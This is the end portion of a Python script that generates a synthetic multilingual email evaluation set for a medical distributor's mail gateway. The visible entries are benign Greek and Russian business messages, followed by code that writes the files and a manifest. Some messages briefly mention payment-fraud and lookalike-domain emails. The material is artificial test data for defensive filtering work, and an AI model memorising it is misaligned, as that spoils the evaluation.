1. Για τον διαγωνισμό της 5ης ΥΠΕ (α/α 248117) τα τεύχη τα κατέβασα από το promitheus.gov.gr. Η εγγυητική συμμετοχής είναι 2% επί του προϋπολογισμού, δηλαδή 8.240 €. Τη ζητάω από την τράπεζα όπως πάντα, μέσω του e-banking της εταιρείας.

2. Μου ήρθε σήμερα email με το όνομά σου που ζητούσε πληρωμή 64.800 € σε δικηγορικό γραφείο για «εγγυητική». Δεν έκανα τίποτα, το προώθησα στον Stefan στο IT. Υποθέτω ότι δεν είναι δικό σου;

Ευχαριστώ,
Ελένη

Ελένη Γεωργίου
Λογιστήριο & Διαγωνισμοί
Example Group Hellas Μ.Ι.Κ.Ε. - Λεωφ. Κηφισίας 124, 115 26 Αθήνα
Τηλ. +30 210 698 4410
""")

# ---- B34 el: external accountant, VAT deadline
_t34 = """Καλησπέρα σας,

σας υπενθυμίζουμε ότι η περιοδική δήλωση ΦΠΑ Νοεμβρίου πρέπει να υποβληθεί έως τις 31/12/2026. Για να την ετοιμάσουμε εγκαίρως χρειαζόμαστε έως τις 15/12:

- τα τιμολόγια αγορών Νοεμβρίου που δεν έχουν διαβιβαστεί στο myDATA,
- τα παραστατικά εισαγωγής (διασαφήσεις) του κοντέινερ από Ningbo,
- την κατάσταση πιστωτικών από τα νοσοκομεία.

Μπορείτε να τα ανεβάσετε στον κοινόχρηστο φάκελο του γραφείου μας όπως κάθε μήνα. Για οποιαδήποτε απορία καλέστε μας στο 210 381 4470.

Με εκτίμηση,
Παναγιώτης Καραγιάννης
Λογιστικό Γραφείο Καραγιάννης & Συνεργάτες
Ακαδημίας 88, 106 78 Αθήνα
"""
B('el', 'logistis-prothesmia-fpa', cs='utf-8', cte='b64', fmt='alt', date='2026-12-04 17:33:50 +0200',
  via=('o365', 'eur'), clang='el-GR', **{'from': ('Παναγιώτης Καραγιάννης', 'p.karagiannis@karagiannis-logistes.gr')},
  to=[S['eleni']], subject='Υπενθύμιση: δήλωση ΦΠΑ Νοεμβρίου - στοιχεία έως 15/12',
  text=_t34, html=auto_html(_t34, 'utf-8', []),
  desc='Genuine deadline reminder from the external accounting firm (its M365 tenant): asks for documents via the usual shared folder, no links or credentials.')

# ---- B35 el: small lab customer on otenet.gr (iso-8859-7)
B('el', 'mikro-ergastirio-otenet', cs='iso-8859-7', cte='qp', date='2026-12-08 20:11:05 +0200',
  via=('host', 'mailout.otenet.gr', 'mailout.otenet.gr', '83.235.69.33',
       [('webmail.otenet.gr (localhost [127.0.0.1])', 'mailout.otenet.gr (Postfix)', 'ESMTPA')], 'rc'),
  **{'from': ('Μαρία Αντωνίου', 'm.antoniou.lab@otenet.gr')},
  to=[S['nikos']], subject='Παραγγελία αναλωσίμων - Μικροβιολογικό Εργαστήριο Αντωνίου',
  hdrs=[('User-Agent', 'Roundcube Webmail/1.6.9')],
  desc='Genuine small customer (private microbiology lab) on an ISP free-mail address ordering consumables; pays on invoice as usual.',
  text="""Καλησπέρα κύριε Παπαδόπουλε,

θα ήθελα να παραγγείλω για το εργαστήριο:

- 20 κουτιά σωληνάρια αιμοληψίας EDTA 3 ml
- 10 κουτιά σωληνάρια ορού με γέλη 5 ml
- 5 κουτιά τρυβλία Petri 90 mm

Αν γίνεται, με παράδοση έως τις 18/12 γιατί κλείνουμε για τις γιορτές. Η εξόφληση όπως πάντα με κατάθεση μετά το τιμολόγιο.

Ευχαριστώ πολύ,
Μαρία Αντωνίου
Μικροβιολογικό Εργαστήριο
Πατησίων 212, Αθήνα
Τηλ. 210 867 3321
""")

# ---- B36 ru: customer order with XLSX (windows-1251)
_b36_xlsx = xlsx([['№', 'Наименование', 'Кол-во', 'Ед.'],
                  [1, 'Пробирка вакуумная с К2ЭДТА 3 мл', 6000, 'шт'],
                  [2, 'Игла для вакуумного забора крови 21G', 6000, 'шт'],
                  [3, 'Контейнер для мочи 120 мл стерильный', 2500, 'шт'],
                  [4, 'Перчатки нитриловые р. M', 400, 'уп']], sheet='Заявка')
B('ru', 'klient-zayavka-xlsx', cs='windows-1251', cte='qp', date='2026-11-12 11:48:30 +0300',
  via=('host', 'forward101.mail.yandex.net', 'forward101.mail.yandex.net', '178.154.239.84',
       [('mail-nwsmtp-smtp-production-main-57.klg.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-57.klg.yp-c.yandex.net [IPv6:2a02:6b8:c42:5b24:0:640:7b1d:0])', 'forward101.mail.yandex.net (Yandex)', 'ESMTPS')], 'gen'),
  **{'from': ('Закупки Здоровье Плюс', 'zakupki@zdorovie-plus.ru')},
  to=[S['dmitry']], subject='Заявка на декабрь - сеть клиник «Здоровье Плюс»',
  att=[('Zayavka_dekabr_2026.xlsx', _b36_xlsx)],
  desc='Genuine customer (private clinic chain, domain hosted at Yandex 360) sends a monthly order as XLSX; payment under the existing contract.',
  text="""Дмитрий, добрый день!

Направляем заявку на декабрь по договору поставки № 14/2025 (файл во вложении). Поставка на центральный склад, как обычно: Москва, ул. Кржижановского 14, корп. 3, приёмка с 9:00 до 17:00.

Прошу подтвердить наличие и сроки, особенно по иглам 21G - в прошлый раз была задержка. Оплата по договору, 30 календарных дней после поставки.

С уважением,
Ирина Белова
Руководитель отдела закупок
ООО «Здоровье Плюс»
тел. +7 495 645 21 18
""")

# ---- B37 ru: internal
B('ru', 'vnutrennee-proverka-rekvizitov', cs='utf-8', cte='b64', date='2026-11-19 16:32:44 +0300',
  via=('int', 'ws-msk-0011', '10.80.0.11'), **{'from': ('Дмитрий Соколов', 'dmitry.sokolov@example.com')},
  to=[S['olga']], subject='МедЛогистик - письмо о смене реквизитов',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'ru-RU')],
  desc='Internal mail via the internal relay: office head tells the chief accountant how to verify a bank-detail change by phone before changing anything (verification behaviour).',
  text="""Ольга, добрый день!

По поводу писем о смене реквизитов МедЛогистик: сегодня пришло два разных письма - одно с адреса medlogistik.ru (их настоящий домен), второе с medlogistic.ru. Второе - подделка, его не исполняем, я переслал в IT.

По настоящему письму: я позвонил Ершову по номеру из договора (+7 495 221 47 80), он подтвердил смену банка с 01.01.2027. Пожалуйста, внесите новые реквизиты в карточку контрагента только после получения оригинала письма с печатью, и до конца года платим по старым.

Спасибо,
Дмитрий
""")

# ---- B38 ru: customs broker invoice (koi8-r)
_b38_pdf = pdf(['OOO "Severnyj Put" - tamozhennyj predstavitel', 'Schet No. SP-2026-1187 ot 25.11.2026', '',
                'Platelshchik: OOO "Ekzampl Grup Rus", INN 7703418852', '',
                'Uslugi tamozhennogo predstavitelya po DT 10005030/251126/5044718   18 500,00 RUB',
                'Khranenie na SVKh (3 sutok)                                          6 240,00 RUB', '',
                'Itogo s NDS: 24 740,00 RUB   Oplata do 09.12.2026',
                'R/s ' + ru_account('044525593', '40702810401300014471') + '  AO "Alfa-Bank"  BIK 044525593'],
               title='Schet SP-2026-1187', producer='1C:Enterprise 8.3')
B('ru', 'broker-schet-koi8r', cs='koi8-r', cte='b64', date='2026-11-25 14:05:38 +0300',
  via=('host', 'smtp41.i.mail.ru', 'smtp41.i.mail.ru', '95.163.41.82',
       [('[176.59.44.120] (port=51422 helo=[192.168.0.104])', 'smtp41.i.mail.ru with esmtpa (envelope-from <buh@sevput-broker.ru>)', 'esmtpa')], 'bat'),
  **{'from': ('Бухгалтерия Северный Путь', 'buh@sevput-broker.ru')},
  to=[S['olga']], subject='Счёт SP-2026-1187 за таможенное оформление',
  att=[('Schet_SP-2026-1187.pdf', _b38_pdf)], hdrs=[('X-Mailer', 'The Bat! (v10.4.5) Professional')],
  desc='Genuine invoice from the Russian customs broker (domain hosted at Mail.ru for Business, The Bat! client, KOI8-R): customs clearance services, known account.',
  text=f"""Ольга Николаевна, добрый день!

Направляем счёт № SP-2026-1187 от 25.11.2026 за услуги таможенного представителя по ДТ 10005030/251126/5044718 и хранение на СВХ. Сумма 24 740,00 руб., в т.ч. НДС, срок оплаты до 09.12.2026.

Реквизиты прежние (АО «Альфа-Банк»). Оригиналы документов (счёт, акт, счёт-фактура) отправим через ЭДО.

С уважением,
Марина Кузнецова
Бухгалтерия ООО «Северный Путь»
тел. +7 495 788 14 20
""")

# ---- B39 ru: genuine, properly announced bank-detail change (windows-1251, DOCX)
_b39_docx = docx(['ООО «МедЛогистик»', 'ИНН 7722480516 / КПП 772201001', 'Исх. № 1179 от 18.11.2026', '',
                  'Уведомление об изменении банковских реквизитов с 01.01.2027', '',
                  'Сообщаем, что с 01.01.2027 расчёты с ООО «МедЛогистик» осуществляются по новым реквизитам:',
                  'Р/с ' + ru_account('044525187', '40702810900000014471') + ' в Банк ВТБ (ПАО), БИК 044525187, к/с 30101810700000000187', '',
                  'Платежи по счетам, выставленным до 31.12.2026, принимаются на прежний счёт в АО «Альфа-Банк» до 31.03.2027.',
                  'Подтвердить изменение можно по телефону, указанному в договоре: +7 495 221 47 80.',
                  'Оригинал письма направлен почтой России.', '',
                  'Генеральный директор  А.В. Ершов', 'Главный бухгалтер  Н.С. Гаврилова'])
B('ru', 'medlogistik-smena-rekvizitov-podlinnaya', cs='windows-1251', cte='qp', date='2026-11-18 12:27:15 +0300',
  via=('host', 'mail.medlogistik.ru', 'mail.medlogistik.ru', '185.12.94.56',
       [('[10.1.0.33] (buh33.medlogistik.local [10.1.0.33])', 'mail.medlogistik.ru (Postfix)', 'ESMTPSA')], 'outlook'),
  **{'from': ('Наталья Гаврилова', 'n.gavrilova@medlogistik.ru')},
  to=[S['olga']], cc=[S['dmitry']], subject='Уведомление о смене банковских реквизитов с 01.01.2027',
  att=[('MedLogistik_uvedomlenie_rekvizity_2027.docx', _b39_docx)], hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Genuine, properly announced bank change from the real partner domain: effective 1 Jan 2027, old account valid until March, original by post, verification by the phone number in the contract.',
  text="""Ольга Николаевна, добрый день!

Во вложении - уведомление о смене банковских реквизитов ООО «МедЛогистик» с 01.01.2027 (скан, оригинал отправлен Почтой России).

Обращаем внимание: счета, выставленные до 31.12.2026, можно оплачивать по старым реквизитам в АО «Альфа-Банк» - счёт будет открыт до 31.03.2027. Просим ничего не менять в уже запланированных платежах.

Изменение можно подтвердить по телефону из договора: +7 495 221 47 80 (генеральный директор А.В. Ершов или я).

С уважением,
Наталья Гаврилова
Главный бухгалтер
ООО «МедЛогистик»
Москва, Волгоградский пр-т 42, корп. 5
""")

# ---- B40 ru: subscribed newsletter, HTML only
_h40 = """<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Медтехника Ревю</title></head>
<body style="margin:0;background:#eef1f4;font-family:Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="620" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:20px 30px;background:#12355b;color:#fff;font-size:22px">Медтехника Ревю · №48/2026</td></tr>
<tr><td style="padding:24px 30px;font-size:14px;line-height:1.55;color:#222">
<h3 style="margin:0 0 10px">Маркировка медицинских изделий: что меняется с 1 марта 2027</h3>
<p>Разбираем новые товарные группы, подлежащие обязательной маркировке, и сроки для импортёров и дистрибьюторов.</p>
<h3 style="margin:20px 0 10px">Регистрация по правилам ЕАЭС</h3>
<p>Переходный период для регистрационных удостоверений по национальным правилам: обзор практики Росздравнадзора за 2026 год.</p>
<h3 style="margin:20px 0 10px">Госзакупки: итоги года</h3>
<p>Объём закупок расходных материалов для лабораторной диагностики вырос на 7%: аналитика по регионам.</p>
<p><a href="https://medtech-review.ru/digest/2026-48" style="color:#12355b">Читать выпуск полностью</a></p>
</td></tr>
<tr><td style="padding:14px 30px;background:#f6f7f9;color:#777;font-size:11px">Вы получили это письмо, так как подписались на рассылку medtech-review.ru.
<a href="https://medtech-review.ru/unsubscribe?u=a77c01e9" style="color:#777">Отписаться</a> · ООО «Медтехника Медиа», Москва, ул. Бутырская 62</td></tr>
</table></td></tr></table></body></html>
"""
B('ru', 'rassylka-medtehnika-revyu', cs='utf-8', cte='b64', fmt='html', html=_h40, date='2026-12-03 10:00:02 +0300',
  via=('host', 'mx12.sendsay.ru', 'mx12.sendsay.ru', '77.222.103.12', [], 'esp'),
  **{'from': ('Медтехника Ревю', 'digest@medtech-review.ru')},
  to=[S['dmitry']], subject='Медтехника Ревю №48: маркировка с 1 марта 2027, регистрация ЕАЭС',
  hdrs=[('List-Unsubscribe', '<https://medtech-review.ru/unsubscribe?u=a77c01e9>'), ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('Precedence', 'bulk')],
  desc='Subscribed Russian industry newsletter (HTML only) sent via an ESP, with List-Unsubscribe.')

# =====================================================================
#                               OUTPUT
# =====================================================================
LANG_NAMES = {'de': 'German', 'en': 'English', 'it': 'Italian', 'pl': 'Polish', 'es': 'Spanish', 'el': 'Greek', 'ru': 'Russian'}
ORDER = ['de', 'en', 'it', 'pl', 'es', 'el', 'ru']

COMPANY = """# Example Group – mail-gateway evaluation set

## The company
**Example Group** is a European distributor and importer of medical devices, in-vitro diagnostics and laboratory
supplies (surgical instruments, blood-collection systems, lab consumables, rapid tests, small lab equipment).
About 700 mailboxes; domains `example.com` (main) and `examplegroup.eu` (used by some finance/tender staff).

- **HQ:** Example Group GmbH, Süderstraße 77, 20097 Hamburg, Germany – tel. +49 40 3861 447-0
- **Italy:** Example Group Italia S.r.l., Via Gallarate 140, 20151 Milano
- **Poland:** Example Group Polska Sp. z o.o., ul. Głogowska 218, 60-104 Poznań
- **Spain:** Example Group Iberia S.L., C/ Julián Camarillo 29, 28037 Madrid
- **Greece:** Example Group Hellas M.I.K.E., Leof. Kifisias 124, 115 26 Athens
- **UK:** Example Group UK Ltd, Unit 4 Arlington Business Park, Reading RG7 4SA
- **Russia:** OOO «Экзампл Груп Рус», Moscow

Customers: public and private hospitals, clinics, laboratories, universities, pharmacies, vets, dental practices;
public tenders (Sintel/ARIA, e-Zamówienia, PLACSP/FACe, ESIDIS, NHS trusts). Suppliers: manufacturers in DE, IT, PL,
US, CN. Regulatory: EU MDR 2017/745 / IVDR 2017/746 importer & distributor duties (SRN, PRRC, EUDAMED), ISO 13485
certified distribution, UKCA, Russian/EAEU registration and "Chestny ZNAK" marking.

Mail infrastructure: inbound MX `mx01.example.com`; internal mail passes the relay `mail-int01.example.com [10.20.0.25]`.
Shared mailboxes: `info@example.com`, `rechnungseingang@example.com`.

### Long-standing correspondents
| Organisation | Addresses | Role |
|---|---|---|
| Lieferant GmbH, Tuttlingen (DE) | s.maier@lieferant-gmbh.de (Simone Maier), rechnungen@lieferant-gmbh.de | surgical instruments / sterile containers supplier |
| Ferretti Trasporti S.r.l., Ciserano BG (IT) | c.colombo@ferretti-trasporti.it (Claudio Colombo), amministrazione@ferretti-trasporti.it | road carrier IT–DE |
| Partner Logistik Sp. z o.o., Gądki (PL) | t.zielinski@partner-logistik.pl (Tomasz Zieliński), ksiegowosc@partner-logistik.pl | logistics partner PL |
| Crestline Diagnostics Inc., Durham NC (US) | orders@crestlinedx.com, t.reilly@crestlinedx.com | IVD rapid-test manufacturer |
| Ningbo Huakang Medical Technology (CN) | lily.chen@hkmed-ningbo.com | syringes / IV cannula manufacturer |
| Biomedica Ravelli S.r.l., Granarolo (IT) | qara@ravelli-biomedica.it | infusion sets manufacturer |
| Laborbedarf Kessler GmbH, Hamburg (DE) | b.kessler@laborbedarf-kessler.de | lab-supply vendor |
| Klinikum Lindenau gGmbH, Lüneburg (DE) | einkauf@klinikum-lindenau.de, p.lange@… | hospital customer |
| Northdown Hospitals NHS FT (UK) | procurement@northdownhospitals.nhs.uk | hospital customer |
| AO Valle Serena, Cremona (IT) | provveditorato@ao-valleserena.it | hospital customer |
| WSS Zielona Lipa (PL) | e.malinowska@wss-zielonalipa.pl | hospital customer |
| HU Valle Verde, Madrid (ES) | suministros@hospitalvalleverde.es | hospital customer |
| Transportes Herrera S.L. (ES) | facturacion@transportesherrera.es | carrier |
| ΓΝ Μεσογείων (GR) | promitheies@gn-mesogeion.gr | hospital customer |
| Ερμής Διεθνείς Μεταφορές (GR) | info@hermes-metafores.gr | customs broker |
| OOO МедЛогистик (RU) | n.gavrilova@medlogistik.ru | logistics partner |
| OOO Северный Путь (RU) | buh@sevput-broker.ru | customs broker |
| OOO Здоровье Плюс (RU) | zakupki@zdorovie-plus.ru | clinic-chain customer |
| CertaMed Zertifizierung GmbH (notified body / ISO CB) | audit.planning@certamed-nb.eu | certification body |
| Hanseatische Handelsbank AG | postfach-info@hhb-bank.de | house bank |
"""

def main():
    for sub in ('attack', 'business'):
        p = os.path.join(ROOT, sub)
        if os.path.isdir(p):
            shutil.rmtree(p)
        os.makedirs(p)
    lines = {'attack': [], 'business': []}
    counters = {'attack': 0, 'business': 0}
    for m in MSGS:
        counters[m['kind']] += 1
        n = counters[m['kind']]
        fname = f"{n:02d}-{m['lang']}-{m['slug']}.eml"
        data = build_msg(m, f"{m['kind']}/{fname}")
        with open(os.path.join(ROOT, m['kind'], fname), 'w', encoding='ascii', newline='\n') as f:
            f.write(data)
        extras = []
        if m['fmt'] == 'alt':
            extras.append('text+HTML')
        elif m['fmt'] == 'html':
            extras.append('HTML only')
        if m['att']:
            extras.append('att: ' + ', '.join(a[0] for a in m['att']))
        cte = {'qp': 'quoted-printable', 'b64': 'base64', '7bit': '7bit'}[m['cte']]
        lines[m['kind']].append(f"| `{m['kind']}/{fname}` | {LANG_NAMES[m['lang']]} | {m['cs']} / {cte}"
                                f"{' (' + '; '.join(extras) + ')' if extras else ''} | {m['desc']} |")
    with open(os.path.join(ROOT, 'staff.txt'), 'w', encoding='utf-8') as f:
        for n, a, _, _ in STAFF:
            f.write(f'{n}={a}\n')
    with open(os.path.join(ROOT, 'MANIFEST.md'), 'w', encoding='utf-8') as f:
        f.write(COMPANY)
        f.write('\n### Staff\n| Name | Address | Office | Role |\n|---|---|---|---|\n')
        for n, a, o, r in STAFF:
            f.write(f'| {n} | {a} | {o} | {r} |\n')
        for kind, title in (('attack', 'Attack messages (must not be delivered plainly)'),
                            ('business', 'Business messages (must be delivered)')):
            f.write(f'\n## {title}\n| File | Language | Charset / encoding | What it is |\n|---|---|---|---|\n')
            f.write('\n'.join(lines[kind]) + '\n')
        f.write('\nAll dates are in late 2026. No Authentication-Results or DKIM headers are present. All IBANs carry valid '
                'mod-97 check digits (IT CIN, ES DC and PL sort-code check digits are also computed; Russian account '
                'numbers carry a valid BIK control key). Archive "malware" attachments contain inert placeholder text only.\n')
    print(f"attack={counters['attack']} business={counters['business']}")

if __name__ == '__main__':
    main()
